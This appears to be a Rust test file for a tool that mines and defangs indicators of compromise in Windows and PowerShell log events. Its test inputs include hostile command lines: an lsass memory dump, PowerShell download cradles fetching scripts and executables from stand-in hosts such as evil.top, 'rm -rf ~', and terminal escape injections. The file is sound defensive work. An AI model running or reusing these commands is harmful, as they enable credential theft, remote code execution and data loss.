//! Indicators of events and texts, friendly and hostile.

use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::decode::{Budget, Decoder, Item};
use crate::source::Content;

struct Bytes<'a>(&'a [u8]);

impl Content for Bytes<'_> {
    fn read_at(&mut self, offset: u64, buffer: &mut [u8]) -> std::io::Result<usize> {
        let rest = self.0.get(offset as usize..).unwrap_or_default();
        let count = rest.len().min(buffer.len());
        buffer[..count].copy_from_slice(&rest[..count]);
        Ok(count)
    }

    fn is_complete(&self) -> bool {
        true
    }
}

fn event(document: &serde_json::Value) -> Event {
    // What tells a document of ours from any JSON.
    let mut document = document.clone();
    document["@timestamp"] = json!("2026-01-02T03:04:05Z");
    document["ecs"] = json!({"version": "8.11.0"});
    let text = format!("{document}\n");
    let mut found = None;
    let budget = Budget {
        records: 1,
        bytes: text.len() as u64 + 1,
    };
    Decoder::new(std::path::Path::new("test.json").into(), None)
        .read(&mut Bytes(text.as_bytes()), 0, budget, &mut |item| {
            if let Item::Record(record) = item {
                found = Some(*record);
            }
        })
        .unwrap();
    Event::from_record(found.unwrap()).unwrap()
}

fn of(document: &serde_json::Value) -> Vec<Indicator> {
    indicators(&event(document))
}

fn values(list: &[Indicator], kind: Kind) -> Vec<&str> {
    list.iter()
        .filter(|one| one.kind == kind)
        .map(|one| one.value.as_str())
        .collect()
}

/// Returns what is found in a text, as `kind value`.
fn mined(text: &str) -> Vec<String> {
    let found = mine::find(text).into_iter();
    found
        .map(|one| format!("{} {}", one.kind.as_str(), &text[one.range]))
        .collect()
}

fn one(kind: Kind, value: &str) -> Indicator {
    Indicator {
        kind,
        value: value.to_owned(),
        field: String::new(),
    }
}

#[test]
fn a_process_gives_each_kind_once() {
    let found = of(&json!({
        "@timestamp": "2026-01-02T03:04:05Z",
        "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon"},
        "host": {"name": "WS1.corp.example.com"},
        "user": {"name": "ana", "domain": "CORP", "id": "S-1-5-18"},
        "process": {
            "entity_id": "{11111111-0000-0000-0000-000000000001}",
            "executable": "C:\\Tools\\p.exe",
            "command_line": "p.exe -ma lsass.exe http://Bad.example.org:8080/x.ps1?q=1",
            "hash": {"md5": "0123456789ABCDEF0123456789ABCDEF", "sha256": "0000000000000000000000000000000000000000000000000000000000000000"},
            "pe": {"imphash": "f0123456789abcdef0123456789abcde"},
            "parent": {"executable": "C:\\Windows\\explorer.exe", "command_line": "p.exe -ma lsass.exe http://Bad.example.org:8080/x.ps1?q=1"},
        },
        "winlog": {"event_data": {"User": "CORP\\ana", "TargetUserSid": "S-1-5-21-1-2-3-1001", "Image": "c:\\tools\\P.EXE"}},
    }));
    assert_eq!(values(&found, Kind::Host), ["WS1.corp.example.com"]);
    assert_eq!(values(&found, Kind::User), ["CORP\\ana"]);
    assert_eq!(values(&found, Kind::Sid), ["S-1-5-21-1-2-3-1001"]);
    assert_eq!(values(&found, Kind::CommandLine).len(), 1);
    assert_eq!(
        values(&found, Kind::Path),
        ["C:\\Tools\\p.exe", "C:\\Windows\\explorer.exe"]
    );
    assert_eq!(
        values(&found, Kind::Md5),
        ["0123456789abcdef0123456789abcdef"]
    );
    assert_eq!(
        values(&found, Kind::Imphash),
        ["f0123456789abcdef0123456789abcde"]
    );
    assert!(values(&found, Kind::Sha256).is_empty());
    assert_eq!(
        values(&found, Kind::Url),
        ["http://Bad.example.org:8080/x.ps1?q=1"]
    );
    assert_eq!(values(&found, Kind::Domain), ["bad.example.org"]);
    assert_eq!(values(&found, Kind::ProcessGuid).len(), 1);
    let mut kinds: Vec<Kind> = found.iter().map(|one| one.kind).collect();
    let given = kinds.clone();
    kinds.sort();
    assert_eq!(given, kinds);
    let guid = found
        .iter()
        .find(|one| one.kind == Kind::ProcessGuid)
        .unwrap();
    assert_eq!(guid.field, "process.entity_id");
}

#[test]
fn the_verbatim_names_serve_an_event_that_nothing_maps() {
    let found = of(
        &json!({"winlog": {"channel": "Foo", "event_id": 1, "event_data": {
            "SubjectUserName": "bo", "SubjectDomainName": "CORP", "TargetObject": "HKLM\\Software\\A",
            "Hashes": "SHA1=00112233445566778899AABBCCDDEEFF00112233,IMPHASH=00000000000000000000000000000000",
            "IpAddress": "::ffff:10.1.2.3", "ObjectName": "\\REGISTRY\\MACHINE\\SAM",
            "QueryResults": "type:  5 cdn.example.net;::ffff:203.0.113.9;",
        }}}),
    );
    assert_eq!(values(&found, Kind::User), ["CORP\\bo"]);
    assert_eq!(
        values(&found, Kind::RegistryKey),
        ["\\REGISTRY\\MACHINE\\SAM", "HKLM\\Software\\A"]
    );
    assert_eq!(
        values(&found, Kind::Sha1),
        ["00112233445566778899aabbccddeeff00112233"]
    );
    assert!(values(&found, Kind::Imphash).is_empty());
    assert_eq!(values(&found, Kind::Ipv4), ["10.1.2.3", "203.0.113.9"]);
    assert_eq!(values(&found, Kind::Domain), ["cdn.example.net"]);
}

#[test]
fn addresses_of_nobody_are_left_out_and_private_ones_stay() {
    let found = of(&json!({
        "source": {"ip": ["127.0.0.1", "::1", "0.0.0.0", "-", "::", "10.0.0.5", "fe80::1%7"]},
        "destination": {"ip": "2001:DB8::0:5", "domain": "localhost"},
    }));
    assert_eq!(values(&found, Kind::Ipv4), ["10.0.0.5"]);
    assert_eq!(values(&found, Kind::Ipv6), ["2001:db8::5", "fe80::1"]);
    assert!(values(&found, Kind::Domain).is_empty());
}

#[test]
fn accounts_of_every_host_come_last() {
    let found = of(&json!({
        "user": {"name": "SYSTEM", "domain": "NT AUTHORITY", "target": {"name": "eve", "domain": "CORP"}},
        "winlog": {"event_data": {"User": "-", "MemberSid": "S-1-5-32-544", "GroupSid": "S-1-5-80-0", "OwnSid": "not a sid"}},
    }));
    assert_eq!(
        values(&found, Kind::User),
        ["CORP\\eve", "NT AUTHORITY\\SYSTEM"]
    );
    assert!(values(&found, Kind::Sid).is_empty());
}

#[test]
fn values_are_one_safe_line() {
    let found = of(
        &json!({"process": {"command_line": "cmd /c a\r\nrm -rf ~\u{1b}]52;c;eA==\u{7}\u{202e}"}}),
    );
    assert_eq!(
        values(&found, Kind::CommandLine),
        ["cmd /c a␍␊rm -rf ~␛]52;c;eA==␇‹RLO›"]
    );
}

#[test]
fn there_is_a_most_and_the_rest_is_counted() {
    let names: Vec<String> = (0..MOST + 25)
        .map(|n| format!("a{n}.example.com"))
        .collect();
    let text = format!("ping {} {}", names.join(" "), names[0]);
    let event = event(&json!({"powershell": {"file": {"script_block_text": text}}}));
    let found = Indicators::of([&event]);
    assert_eq!((found.list.len(), found.more), (MOST, 25));
    assert_eq!(Indicators::of([&event, &event]), found);
}

#[test]
fn a_value_too_long_to_be_one_is_counted() {
    let long = "x".repeat(VALUE_BYTES + 1);
    let found = Indicators::of([&event(&json!({"process": {"command_line": long}}))]);
    assert_eq!((found.list.len(), found.more), (0, 1));
}

#[test]
fn texts_give_urls_with_their_hosts() {
    for (text, expected) in [
        (
            "iwr http://a.example.com/x.ps1, then",
            "url http://a.example.com/x.ps1 | domain a.example.com",
        ),
        (
            "(New-Object Net.WebClient).DownloadString('https://user:pw@evil.top/a(1).txt')",
            "url https://user:pw@evil.top/a(1).txt | domain evil.top",
        ),
        (
            "(http://evil.top/x).Content",
            "url http://evil.top/x | domain evil.top",
        ),
        (
            "see <ftp://[2001:db8::7]:21/f>.",
            "url ftp://[2001:db8::7]:21/f | ipv6 2001:db8::7",
        ),
        (
            "HTTP://198.51.100.7:8080",
            "url HTTP://198.51.100.7:8080 | ipv4 198.51.100.7",
        ),
        ("http://dc1.corp.local/a", "url http://dc1.corp.local/a"),
        ("http:// nothing", ""),
        (
            "http://a.com/x;https://b.com,ftp://c.com)",
            "url http://a.com/x | domain a.com | url https://b.com | domain b.com | url ftp://c.com | domain c.com",
        ),
        ("hxxp://bad.sh/x", "url hxxp://bad.sh/x | domain bad.sh"),
        ("a@evil.com;b", "e-mail a@evil.com"),
        (
            "\\\\files.example.com\\share\\a.exe",
            "domain files.example.com",
        ),
        ("\\\\10.9.8.7\\c$\\x.bat", "ipv4 10.9.8.7"),
    ] {
        assert_eq!(mined(text).join(" | "), expected, "{text}");
    }
}

#[test]
fn files_members_and_versions_are_not_hosts() {
    for text in [
        "cmd.exe /c foo.sh a.ps1 b.py c.pl d.zip readme.md more.com C:\\Windows\\system32\\tree.com",
        "$_.Name $x.info $proc.id ($a).top [System.Net] System.Net System.IO.File Microsoft.Net",
        "WScript.Shell ADODB.Stream objShell.Run \"x\" System.Security.Principal.WindowsIdentity Net.WebClient shell.run(1) C:\\a.com\\b ./x.com/y",
        "Version=4.0.0.0, v1.2.3.4 version: 10.0.19041.1 Chrome/120.0.0.0 6.1.7601.17514 1.2.3.4.5 0.1.2.3",
        "HostVersion=5.1.1.1 build 10.2.3.4 Common-Controls_6.0.0.1_none 300.1.2.3 01.2.3.4",
        "[Convert]::FromBase64String [x]::Add(1) Fe::Be 12:34:56 00:11:22:33:44:55:66:77 a::b std::dead",
        "lsass.dmp wpad dc1.corp.local -.com ..com a..com x@y.invalidtld",
        "00000000000000000000000000000000 11111111111111111111111111111111111111ff1 deadbeef",
    ] {
        assert_eq!(mined(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn hosts_standing_alone_are_found() {
    let text = "nslookup x1.Evil-Name.co.uk 8.8.8.8 & ping evil.top:443 'a.github.io' 2001:db8::1 10.0.0.0/8 \
                0123456789abcdef0123456789abcdef microsoft.login.example.com.";
    assert_eq!(
        mined(text),
        [
            "domain x1.Evil-Name.co.uk",
            "ipv4 8.8.8.8",
            "domain evil.top",
            "domain a.github.io",
            "ipv6 2001:db8::1",
            "ipv4 10.0.0.0",
            "md5 0123456789abcdef0123456789abcdef",
            "domain microsoft.login.example.com",
        ]
    );
}

#[test]
fn defanged_values_are_no_links() {
    for (kind, plain, expected) in [
        (
            Kind::Url,
            "https://a.example/x.html",
            "hxxps://a[.]example/x[.]html",
        ),
        (Kind::Url, "FTP://u@a.example", "fxp://u@a[.]example"),
        (Kind::Url, "ldap://a.example", "ldap[:]//a[.]example"),
        (
            Kind::Url,
            "http://a.b/?u=http://c.d",
            "hxxp://a[.]b/?u=hxxp://c[.]d",
        ),
        (Kind::Ipv4, "10.0.0.1", "10.0.0[.]1"),
        (Kind::Ipv6, "2001:db8::1", "2001[:]db8[:][:]1"),
        (Kind::Email, "a.b@c.example", "a[.]b[at]c[.]example"),
        (Kind::Domain, "www.a.example", "www[.]a[.]example"),
        (
            Kind::CommandLine,
            "iwr http://a.example.com/x -o C:\\t\\x.exe; ping 10.0.0.1",
            "iwr hxxp://a[.]example[.]com/x -o C:\\t\\x.exe; ping 10.0.0[.]1",
        ),
        (Kind::Path, "C:\\www.x\\a.exe", "C:\\www[.]x\\a.exe"),
        (Kind::Host, "-www.evil.com", "-www[.]evil[.]com"),
        (
            Kind::CommandLine,
            "iwr hxxp://a[.]b[.]com/x.exe",
            "iwr hxxp://a[.]b[.]com/x[.]exe",
        ),
        (Kind::Sid, "S-1-5-21-1", "S-1-5-21-1"),
    ] {
        assert_eq!(defang(&one(kind, plain)), expected);
    }
}

/// The kinds whose values may hold a link.
const LINKY: [Kind; 10] = [
    Kind::Host,
    Kind::User,
    Kind::CommandLine,
    Kind::Path,
    Kind::RegistryKey,
    Kind::Ipv4,
    Kind::Ipv6,
    Kind::Domain,
    Kind::Url,
    Kind::Email,
];

/// Text rich in what looks like a link.
fn linky() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("http://".to_owned()),
        Just("HTTPS://".to_owned()),
        Just("ftp://".to_owned()),
        Just("file://".to_owned()),
        Just("mailto:".to_owned()),
        Just("www.".to_owned()),
        Just("[2001:db8::1]".to_owned()),
        Just("10.0.0.1".to_owned()),
        Just("evil.com".to_owned()),
        Just("a@b.org".to_owned()),
        "[a-z./:@?()\\[\\]\"' \\\\-]{0,4}",
        any::<char>().prop_map(String::from),
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

#[test]
fn a_text_of_nothing_but_links_is_read_to_its_end() {
    let size = TEXT_BYTES / 8;
    let fill = |piece: &str| piece.repeat(size / piece.len());
    assert_eq!(mined(&fill("http://a.com;")).len(), 2 * (size / 13));
    for piece in [
        "http://",
        "http://a",
        ")",
        "a.",
        "1.1.1.1.",
        "a@",
        ":1",
        "http://a.com)",
        ";",
    ] {
        let text = format!("http://x.com/{}", fill(piece));
        for found in mine::find(&text) {
            assert!(found.range.len() <= 2048 || found.kind != Kind::Url);
        }
        assert!(!defang_text(&text).contains("http://"));
    }
}

proptest! {
    #[test]
    fn defang_leaves_no_link(text in linky(), kind in proptest::sample::select(&LINKY[..])) {
        let shown = defang(&one(kind, &text)).to_lowercase();
        for (at, _) in shown.match_indices("://") {
            let scheme: String = shown[..at].chars().rev()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')).collect();
            let scheme: String = scheme.chars().rev().collect();
            let scheme = scheme.trim_start_matches(|c: char| !c.is_ascii_alphabetic());
            prop_assert!(["", "hxxp", "hxxps", "fxp", "fxps"].contains(&scheme), "{shown}");
        }
        prop_assert!(!shown.contains("mailto:"), "{shown}");
        let links = mine::find(&shown).into_iter()
            .filter(|found| found.kind == Kind::Email || found.kind == Kind::Domain && !shown[..found.range.start].contains("://"));
        prop_assert_eq!(links.count(), 0, "{}", shown);
        prop_assert_eq!(defang_text(&defang_text(&text)), defang_text(&text));
    }

    #[test]
    fn no_text_makes_mining_fail(text in ".{0,200}") {
        for found in mine::find(&text) {
            prop_assert!(!text[found.range].is_empty());
        }
    }

    #[test]
    fn no_value_makes_an_event_fail(a in ".{0,80}", b in linky()) {
        let event = event(&json!({
            "process": {"command_line": a, "hash": {"md5": b}, "executable": a},
            "source": {"ip": b}, "dns": {"question": {"name": b}}, "user": {"name": a, "domain": b, "id": a},
            "powershell": {"file": {"script_block_text": b}},
        }));
        for found in indicators(&event) {
            prop_assert_eq!(crate::text::plain(&found.value), found.value.as_str());
            prop_assert!(!found.value.contains('\n'));
        }
    }
}
